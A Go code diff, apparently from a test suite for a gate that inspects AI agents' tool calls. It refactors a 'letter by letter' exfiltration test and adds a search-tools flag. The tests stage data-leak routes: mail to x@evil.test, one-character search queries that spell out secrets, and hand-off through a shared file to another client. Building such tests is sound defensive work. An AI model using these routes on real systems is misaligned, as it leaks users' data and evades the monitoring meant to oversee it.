@@ -23,6 +23,7 @@ type heist struct {
 	held     bool   // where the gate decides, that does not
 	overlaps bool   // requests are under way at the same time
 	internal bool   // nobody has said that what leaves is more than internal, and balanced lets inspectors answer for that
+	search   bool   // the client finds and calls tools by search_tools and call_tool
 }
 
 // heists are all that are tried. Each is shown to work where the gate only records.
@@ -153,22 +154,7 @@ func detours() []heist {
 			a.call("send_mail", map[string]any{"to": "x@evil.test", "body": data})
 			a.url = whole
 		}},
-		{name: "letter by letter", leave: func(_ *stage, a *agent, data string) {
-			refused := 0
-			for _, c := range data {
-				if !strings.Contains(a.call("tracker__search", map[string]any{"query": "(" + string(c) + ")"}), ran) {
-					if refused++; refused == 3 {
-						return
-					}
-				}
-			}
-		}, got: func(received, data string) bool {
-			var letters strings.Builder
-			for _, m := range letter.FindAllStringSubmatch(received, -1) {
-				letters.WriteString(m[1])
-			}
-			return strings.Contains(letters.String(), data)
-		}},
+		{name: "letter by letter", leave: letterByLetter, got: spelled},
 		{name: "through a file, by another client", leave: func(s *stage, a *agent, data string) {
 			a.call("shared__write_file", map[string]any{"path": s.sharedFile(a), "content": data + " " + plan})
 			b := s.agent(a.modern)
@@ -178,4 +164,25 @@ func detours() []heist {
 			}
 		}},
 	}
+}
+
+// letterByLetter sends data in calls of one letter each.
+func letterByLetter(_ *stage, a *agent, data string) {
+	refused := 0
+	for _, c := range data {
+		if !strings.Contains(a.call("tracker__search", map[string]any{"query": "(" + string(c) + ")"}), ran) {
+			if refused++; refused == 3 {
+				return
+			}
+		}
+	}
+}
+
+// spelled reports whether the letters of calls spell data, also among those of others who send at the same time.
+func spelled(received, data string) bool {
+	left := data
+	for _, m := range letter.FindAllStringSubmatch(received, -1) {
+		left = strings.TrimPrefix(left, m[1])
+	}
+	return left == ""
 }
